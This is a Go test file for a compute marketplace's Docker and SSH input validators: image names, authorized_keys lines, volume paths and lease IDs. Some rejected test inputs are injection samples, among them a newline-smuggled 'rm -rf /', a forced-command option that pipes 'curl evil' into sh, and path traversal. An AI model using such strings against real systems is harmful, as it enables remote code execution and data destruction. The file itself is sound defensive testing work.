package docker

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"path"
	"slices"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"github.com/nicompute/nicompute/internal/market"
)

func TestValidateImage(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		want    string // "" means refused
		wantErr bool
	}{
		{name: "short", in: "ubuntu", want: "ubuntu:latest"},
		{name: "tag", in: "ubuntu:22.04", want: "ubuntu:22.04"},
		{name: "library", in: "docker.io/library/ubuntu:22.04", want: "ubuntu:22.04"},
		{name: "registry port", in: "registry.example.com:5000/team/cuda:12.4-runtime", want: "registry.example.com:5000/team/cuda:12.4-runtime"},
		{name: "digest", in: "pytorch/pytorch@sha256:" + strings.Repeat("a", 64), want: "pytorch/pytorch@sha256:" + strings.Repeat("a", 64)},
		{name: "test image", in: "nicompute-test:0123abcd", want: "nicompute-test:0123abcd"},
		{name: "empty", in: "", wantErr: true},
		{name: "uppercase repo", in: "Ubuntu", wantErr: true},
		{name: "space", in: "ubuntu 22.04", wantErr: true},
		{name: "newline", in: "ubuntu\nRUN rm -rf /", wantErr: true},
		{name: "nul", in: "ubuntu\x00", wantErr: true},
		{name: "tab", in: "ubuntu\t", wantErr: true},
		{name: "non ascii", in: "ubüntu", wantErr: true},
		{name: "shell", in: "ubuntu;rm", wantErr: true},
		{name: "option", in: "--privileged", wantErr: true},
		{name: "image id", in: strings.Repeat("a", 64), wantErr: true},
		{name: "bad digest", in: "ubuntu@sha256:abc", wantErr: true},
		{name: "too long", in: "a/" + strings.Repeat("b", MaxImageLen), wantErr: true},
		{name: "trailing colon", in: "ubuntu:", wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ValidateImage(tt.in)
			if tt.wantErr {
				if err == nil {
					t.Fatalf("ValidateImage(%q) = %q, want error", tt.in, got)
				}
				if code := market.ErrorCode(err); code != market.EINVALID {
					t.Fatalf("code = %s, want %s", code, market.EINVALID)
				}
				return
			}
			if err != nil {
				t.Fatalf("ValidateImage(%q): %v", tt.in, err)
			}
			if got != tt.want {
				t.Fatalf("ValidateImage(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func FuzzValidateImage(f *testing.F) {
	for _, s := range []string{"ubuntu", "ubuntu:22.04", "a/b/c:d@sha256:" + strings.Repeat("0", 64), "localhost:5000/x", "ubuntu\n", "", "UPPER"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, err := ValidateImage(s)
		if err != nil {
			if market.ErrorCode(err) != market.EINVALID {
				t.Fatalf("error without EINVALID: %v", err)
			}
			return
		}
		if len(s) > MaxImageLen {
			t.Fatalf("accepted %d-byte reference", len(s))
		}
		for _, c := range []byte(got) {
			if c <= ' ' || c >= 0x7f {
				t.Fatalf("accepted %q with byte %#x", got, c)
			}
		}
		// The normalized form must be a fixed point.
		again, err := ValidateImage(got)
		if err != nil || again != got {
			t.Fatalf("ValidateImage(%q) = %q, %v; not stable", got, again, err)
		}
	})
}

func authorizedLine(t testing.TB, pub any, comment string) string {
	t.Helper()
	k, err := ssh.NewPublicKey(pub)
	if err != nil {
		t.Fatal(err)
	}
	line := strings.TrimSuffix(string(ssh.MarshalAuthorizedKey(k)), "\n")
	if comment != "" {
		line += " " + comment
	}
	return line
}

func TestParseSSHKeys(t *testing.T) {
	edPub, _, _ := ed25519.GenerateKey(rand.Reader)
	ed2Pub, _, _ := ed25519.GenerateKey(rand.Reader)
	ec, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	rsaSmall, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	rsaOK, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	ed := authorizedLine(t, edPub, "alice@laptop")
	ed2 := authorizedLine(t, ed2Pub, "")
	ecLine := authorizedLine(t, &ec.PublicKey, "bob")
	rsaLine := authorizedLine(t, &rsaOK.PublicKey, "")

	// A certificate signed by the ed25519 key.
	_, caPriv, _ := ed25519.GenerateKey(rand.Reader)
	caSigner, _ := ssh.NewSignerFromKey(caPriv)
	certKey, _ := ssh.NewPublicKey(edPub)
	cert := &ssh.Certificate{Key: certKey, CertType: ssh.UserCert, ValidPrincipals: []string{"root"}, ValidBefore: ssh.CertTimeInfinity}
	if err := cert.SignCert(rand.Reader, caSigner); err != nil {
		t.Fatal(err)
	}
	certLine := strings.TrimSpace(string(ssh.MarshalAuthorizedKey(cert)))

	tests := []struct {
		name    string
		in      string
		want    int // keys parsed; -1 means refused
		wantOut string
	}{
		{name: "one", in: ed, want: 1, wantOut: strings.TrimSuffix(ed, " alice@laptop") + "\n"},
		{name: "trailing newline", in: ed + "\n", want: 1},
		{name: "several with blanks and comments", in: "# renter keys\n\n" + ed + "\n  \n" + ecLine + "\n" + rsaLine + "\n", want: 3},
		{name: "two", in: ed + "\n" + ed2, want: 2, wantOut: strings.TrimSuffix(ed, " alice@laptop") + "\n" + ed2 + "\n"},
		{name: "leading spaces", in: "   " + ed, want: 1},
		{name: "empty", in: "", want: -1},
		{name: "only comments", in: "# nothing\n", want: -1},
		{name: "garbage", in: "hello world", want: -1},
		{name: "truncated base64", in: ed[:40], want: -1},
		{name: "command option", in: `command="/bin/sh -c 'curl evil|sh'" ` + ed, want: -1},
		{name: "from option", in: `from="10.0.0.1" ` + ed, want: -1},
		{name: "no-pty option", in: "no-pty " + ed, want: -1},
		{name: "carriage return", in: ed + "\r\n", want: -1},
		{name: "cr inside", in: ed + "\r" + ed2, want: -1},
		{name: "nul", in: ed + "\x00", want: -1},
		{name: "escape", in: ed + " \x1b[2J", want: -1},
		{name: "two keys one line", in: ed + " " + ed2, want: 1}, // the second is part of the comment
		{name: "rsa 1024", in: authorizedLine(t, &rsaSmall.PublicKey, ""), want: -1},
		{name: "certificate", in: certLine, want: -1},
		{name: "too many", in: strings.Repeat(ed+"\n", MaxSSHKeys+1), want: -1},
		{name: "max", in: strings.Repeat(ed+"\n", MaxSSHKeys), want: MaxSSHKeys},
		{name: "too long", in: ed + " " + strings.Repeat("x", MaxSSHKeysLen), want: -1},
		{name: "long line", in: ed + " " + strings.Repeat("x", MaxSSHKeyLineLen), want: -1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			keys, err := ParseSSHKeys(tt.in)
			if tt.want < 0 {
				if err == nil {
					t.Fatalf("accepted %d keys, want error", len(keys))
				}
				if code := market.ErrorCode(err); code != market.EINVALID {
					t.Fatalf("code = %s, want %s (%v)", code, market.EINVALID, err)
				}
				return
			}
			if err != nil {
				t.Fatalf("ParseSSHKeys: %v", err)
			}
			if len(keys) != tt.want {
				t.Fatalf("got %d keys, want %d", len(keys), tt.want)
			}
			if tt.wantOut != "" {
				if got := string(MarshalAuthorizedKeys(keys)); got != tt.wantOut {
					t.Fatalf("marshalled %q, want %q", got, tt.wantOut)
				}
			}
		})
	}
}

func FuzzParseSSHKeys(f *testing.F) {
	edPub, _, _ := ed25519.GenerateKey(rand.Reader)
	ed := authorizedLine(f, edPub, "c")
	for _, s := range []string{ed, ed + "\n" + ed, "# x\n" + ed, `command="x" ` + ed, ed + "\r\n", "", "ssh-ed25519 AAAA"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		keys, err := ParseSSHKeys(s)
		if err != nil {
			if market.ErrorCode(err) != market.EINVALID {
				t.Fatalf("error without EINVALID: %v", err)
			}
			return
		}
		if len(keys) == 0 || len(keys) > MaxSSHKeys {
			t.Fatalf("accepted %d keys", len(keys))
		}
		out := MarshalAuthorizedKeys(keys)
		// What is written must be exactly one canonical key per line, and
		// must parse back to the same keys.
		if bytes.Count(out, []byte("\n")) != len(keys) || bytes.ContainsAny(out, "\r\x00\"=") {
			t.Fatalf("unsafe authorized_keys output %q", out)
		}
		again, err := ParseSSHKeys(string(out))
		if err != nil || len(again) != len(keys) {
			t.Fatalf("re-parse: %d keys, %v", len(again), err)
		}
		for i := range keys {
			if !bytes.Equal(keys[i].Marshal(), again[i].Marshal()) {
				t.Fatalf("key %d changed on re-parse", i)
			}
		}
	})
}

func TestValidateVolumePath(t *testing.T) {
	tests := []struct {
		in string
		ok bool
	}{
		{"/data", true},
		{"/workspace/data-1", true},
		{"/tmp", true},
		{"/home/user/.cache", true},
		{"", false},
		{"data", false},
		{"/", false},
		{"/data/", false},
		{"/data//x", false},
		{"/data/../etc", false},
		{"/..", false},
		{"/./data", false},
		{"/data x", false},
		{"/data\n", false},
		{"/data:ro", false},
		{"/proc", false},
		{"/proc/1", false},
		{"/sys/fs", false},
		{"/dev", false},
		{"/etc", false},           // would hide the SSH server's files
		{"/etc/nicompute", false}, // the SSH server's files
		{"/etc/nicompute/x", false},
		{"/.nicompute", false},
		{"/.nicompute/bin", false},
		{"/etcetera", true},
		{"/" + strings.Repeat("a", MaxVolumePathLen), false},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			err := ValidateVolumePath(tt.in)
			if tt.ok && err != nil {
				t.Fatalf("ValidateVolumePath(%q): %v", tt.in, err)
			}
			if !tt.ok && market.ErrorCode(err) != market.EINVALID {
				t.Fatalf("ValidateVolumePath(%q) = %v, want EINVALID", tt.in, err)
			}
		})
	}
}

func FuzzValidateVolumePath(f *testing.F) {
	for _, s := range []string{"/data", "/etc/nicompute", "/a/../b", "/", "rel", "/tmp/"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, p string) {
		if ValidateVolumePath(p) != nil {
			return
		}
		if !strings.HasPrefix(p, "/") || path.Clean(p) != p || strings.Contains(p, "..") && slices.Contains(strings.Split(p, "/"), "..") || len(p) > MaxVolumePathLen {
			t.Fatalf("accepted %q", p)
		}
		for _, r := range reservedPaths {
			if p == r || strings.HasPrefix(p, r+"/") || strings.HasPrefix(r, p+"/") {
				t.Fatalf("accepted %q overlapping %s", p, r)
			}
		}
	})
}

func TestCheckDockerfile(t *testing.T) {
	if err := CheckDockerfile(""); err != nil {
		t.Fatalf("empty dockerfile: %v", err)
	}
	if err := CheckDockerfile("  \n"); err != nil {
		t.Fatalf("blank dockerfile: %v", err)
	}
	err := CheckDockerfile("RUN apt-get install -y curl")
	if market.ErrorCode(err) != market.EINVALID || !strings.Contains(market.ErrorMessage(err), "not supported") {
		t.Fatalf("dockerfile accepted or unclear: %v", err)
	}
}

func TestValidateLeaseID(t *testing.T) {
	for _, id := range []string{"1", "lease-42", "a.b_c", strings.Repeat("x", MaxLeaseIDLen)} {
		if err := ValidateLeaseID(id); err != nil {
			t.Errorf("ValidateLeaseID(%q): %v", id, err)
		}
	}
	for _, id := range []string{"", "-x", ".x", "a/b", "a b", "a:b", "ä", strings.Repeat("x", MaxLeaseIDLen+1)} {
		if err := ValidateLeaseID(id); market.ErrorCode(err) != market.EINVALID {
			t.Errorf("ValidateLeaseID(%q) = %v, want EINVALID", id, err)
		}
	}
}
